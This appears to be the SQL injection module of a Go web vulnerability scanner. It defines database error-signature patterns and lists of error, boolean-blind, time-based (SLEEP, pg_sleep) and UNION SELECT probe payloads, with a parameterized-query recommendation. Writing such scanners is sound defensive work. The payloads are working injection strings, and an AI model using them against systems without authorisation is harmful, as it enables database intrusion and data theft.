// Package sqli provides SQL injection detection payloads and fingerprints.
// It covers error-based, boolean-blind, time-based, and union-based
// techniques across MySQL, PostgreSQL, MSSQL, Oracle and SQLite.
package sqli

import (
	"fmt"
	"strings"

	"github.com/vantascan/vantascan/pkg/defaults"
	"github.com/vantascan/vantascan/pkg/duration"
	"github.com/vantascan/vantascan/pkg/finding"
	"github.com/vantascan/vantascan/pkg/oracle"
	"github.com/vantascan/vantascan/pkg/probe"
	"github.com/vantascan/vantascan/pkg/regexcache"
)

// DBMS identifies a database backend by its error signature.
type DBMS string

const (
	DBMSMySQL      DBMS = "mysql"
	DBMSPostgreSQL DBMS = "postgresql"
	DBMSMSSQL      DBMS = "mssql"
	DBMSOracle     DBMS = "oracle"
	DBMSSQLite     DBMS = "sqlite"
	DBMSGeneric    DBMS = "generic"
)

// errorPatterns maps each DBMS to the verbose error text it leaks when a
// quote breaks query syntax.
var errorPatterns = map[DBMS][]string{
	DBMSMySQL: {
		`(?i)SQL syntax.*MySQL`,
		`(?i)Warning: mysqli?::`,
		`(?i)MySQL server version for the right syntax`,
		`(?i)Unknown column '[^']*' in 'field list'`,
	},
	DBMSPostgreSQL: {
		`(?i)PG::SyntaxError`,
		`(?i)psql: error`,
		`(?i)ERROR:\s+syntax error at or near`,
		`(?i)invalid input syntax for type`,
	},
	DBMSMSSQL: {
		`(?i)Unclosed quotation mark after the character string`,
		`(?i)SQL Server.*Driver`,
		`(?i)Microsoft OLE DB Provider for SQL Server`,
	},
	DBMSOracle: {
		`ORA-\d{5}`,
		`(?i)Oracle error`,
	},
	DBMSSQLite: {
		`(?i)SQLite/JDBCDriver`,
		`SQLITE_ERROR`,
		`(?i)near "SELECT": syntax error`,
	},
}

// errorKeywords is the cheap substring pre-filter run before any regex.
var errorKeywords = []string{
	"sql", "mysql", "syntax", "ora-", "sqlite", "quotation", "psql",
}

// ErrorPayloads are quote and comment fragments that break query syntax.
var ErrorPayloads = []string{
	"'", "\"", "'))", "'))--", "`", "1'--", "1')--", "1\"--", "1) --",
}

// BooleanPairs are truthy expressions with falsy twins covering the usual
// quoting contexts.
var BooleanPairs = []oracle.BooleanPair{
	{True: "1' OR '1'='1", False: "1' AND '1'='2"},
	{True: "1) OR (1=1", False: "1) AND (1=2"},
	{True: "1') OR ('1'='1", False: "1') AND ('1'='2"},
}

// TimedPayloads carry explicit sleeps for MySQL and PostgreSQL.
var TimedPayloads = []oracle.TimedPayload{
	{Payload: "1' OR SLEEP(5)-- ", Sleep: duration.SleepRequest},
	{Payload: "1'); SELECT pg_sleep(5); --", Sleep: duration.SleepRequest},
	{Payload: "1) OR SLEEP(5)-- ", Sleep: duration.SleepRequest},
	{Payload: "1) ; SELECT pg_sleep(5); --", Sleep: duration.SleepRequest},
}

// UnionPayloads walks column counts from one to the configured maximum.
// The right arity merges NULL rows into the page and shifts its content.
func UnionPayloads(maxCols int) []oracle.UnionPayload {
	if maxCols <= 0 {
		maxCols = defaults.MaxUnionColumns
	}
	out := make([]oracle.UnionPayload, 0, maxCols)
	for cols := 1; cols <= maxCols; cols++ {
		nulls := strings.Repeat("NULL,", cols)
		out = append(out, oracle.UnionPayload{
			Payload: fmt.Sprintf("1 UNION SELECT %s-- ", nulls[:len(nulls)-1]),
			Columns: cols,
		})
	}
	return out
}

// Category builds the SQL injection category with the full payload catalog.
func Category() *oracle.Category {
	c := &oracle.Category{
		Name:     "sqli",
		Severity: finding.High,
		Procedures: []oracle.Procedure{
			oracle.ProcError,
			oracle.ProcBoolean,
			oracle.ProcTiming,
			oracle.ProcUnion,
		},
		Point:    probe.PointQuery,
		Keywords: errorKeywords,
		Payloads: oracle.PayloadSet{
			Errors:       ErrorPayloads,
			BooleanPairs: BooleanPairs,
			Timed:        TimedPayloads,
			Union:        UnionPayloads(defaults.MaxUnionColumns),
		},
		Recommendation: "Use parameterized queries or ORM bind parameters; avoid dynamic SQL. " +
			"Apply least-privilege database accounts and input validation.",
	}
	for _, patterns := range errorPatterns {
		for _, p := range patterns {
			c.Fingerprints = append(c.Fingerprints, regexcache.MustGet(p))
		}
	}
	return c
}

// DetectDBMS identifies the backend from an error body, or DBMSGeneric
// when no signature matches.
func DetectDBMS(body string) DBMS {
	for dbms, patterns := range errorPatterns {
		for _, p := range patterns {
			if regexcache.MustGet(p).MatchString(body) {
				return dbms
			}
		}
	}
	return DBMSGeneric
}
